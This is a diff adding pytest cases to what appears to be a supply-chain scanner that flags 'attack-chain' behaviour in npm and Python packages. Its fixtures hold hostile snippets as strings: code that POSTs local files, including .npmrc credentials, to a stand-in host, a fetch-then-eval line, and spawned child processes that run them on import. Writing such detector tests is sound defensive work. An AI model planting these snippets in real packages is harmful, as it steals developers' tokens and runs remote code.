@@ -4,7 +4,7 @@ import pytest
 
 from pratique.analysis.context import Context
 from pratique.analysis.facts import FileFacts, Language
-from pratique.analysis.job import FactsKey
+from pratique.analysis.job import Done, FactsKey
 from pratique.analysis.reading import open_part, read_contents
 from pratique.archive import DEFAULT_LIMITS
 from tests.analysis.inspecting import _part, npm, of_rule, package_json, wheel
@@ -172,3 +172,57 @@ def test_the_hooks_of_hundreds_of_bundled_packages_are_read() -> None:
     inner["node_modules/p399/package.json"] = package_json(name="p399", scripts={"install": ENDS})
     done = npm({"package.json": package_json(bundleDependencies=names), "index.js": "1", **inner})
     assert of_rule(done, "attack-chain")
+
+
+LEAKS = {
+    "js": "const fs = require('fs');\nfetch('https://far.invalid/', {method: 'POST', body: fs.readFileSync('a.json')});\n",
+    "py": "import urllib.request\nurllib.request.urlopen('https://far.invalid/', data=open('a.json', 'rb').read())\n",
+}
+STARTS = {
+    "js": "const { fork } = require('child_process');\nclass Dev { watch() { fork(__dirname + '/dog.js'); } }\nexports.Dev = Dev;\n",
+    "py": "import os, subprocess, sys\nclass Dev:\n    def watch(self):\n"
+    "        subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'dog.py')])\n",
+}
+NPMRC = (
+    "fetch('https://far.invalid/', {method: 'POST', body: require('fs').readFileSync('.npmrc', 'utf8')});\n"
+)
+OPENS = {
+    "js": {
+        "waits": "module.exports = require('./dev');\n",
+        "runs": "new (require('./dev').Dev)().watch();\n",
+    },
+    "py": {"waits": "from .dev import Dev\n", "runs": "from .dev import Dev\nDev().watch()\n"},
+}
+
+
+def started(suffix: str, entry: str, program: str = "") -> Done:
+    """Inspect a package in which a method of dev starts the program dog."""
+    code = {"dev": STARTS[suffix], "dog": program or LEAKS[suffix]}
+    if suffix == "js":
+        return npm({"index.js": entry, **{f"{name}.js": text for name, text in code.items()}})
+    return wheel({"kite/__init__.py": entry, **{f"kite/{name}.py": text for name, text in code.items()}})
+
+
+@pytest.mark.parametrize("suffix", ["js", "py"])
+@pytest.mark.parametrize("when", ["waits", "runs"])
+def test_what_a_function_starts_as_a_program_runs_when_the_function_does(suffix: str, when: str) -> None:
+    found = of_rule(started(suffix, OPENS[suffix][when]), "attack-chain")
+    assert (when == "runs") is any(finding.message.startswith("when imported") for finding in found)
+    assert (when == "runs") is bool(found)
+
+
+def test_a_function_is_followed_that_a_program_started_at_load_calls() -> None:
+    files = {f"b{n}.js": f"require('./a{n}').go();\n" for n in range(6)}
+    files |= {
+        f"a{n}.js": f"exports.go = () => require('child_process').fork(__dirname + '/b{n + 1}.js');\n"
+        for n in range(6)
+    }
+    assert of_rule(npm({"index.js": "require('./b0');\n", **files, "b6.js": LEAKS["js"]}), "attack-chain")
+
+
+@pytest.mark.parametrize(
+    "program", [NPMRC, "fetch('https://far.invalid/').then(r => r.text()).then(eval);\n"]
+)
+def test_what_no_caller_asks_for_is_held_in_such_a_program_too(program: str) -> None:
+    found = of_rule(started("js", OPENS["js"]["waits"], program), "attack-chain")
+    assert ["when called"] == list(dict.fromkeys(finding.message[:11] for finding in found))
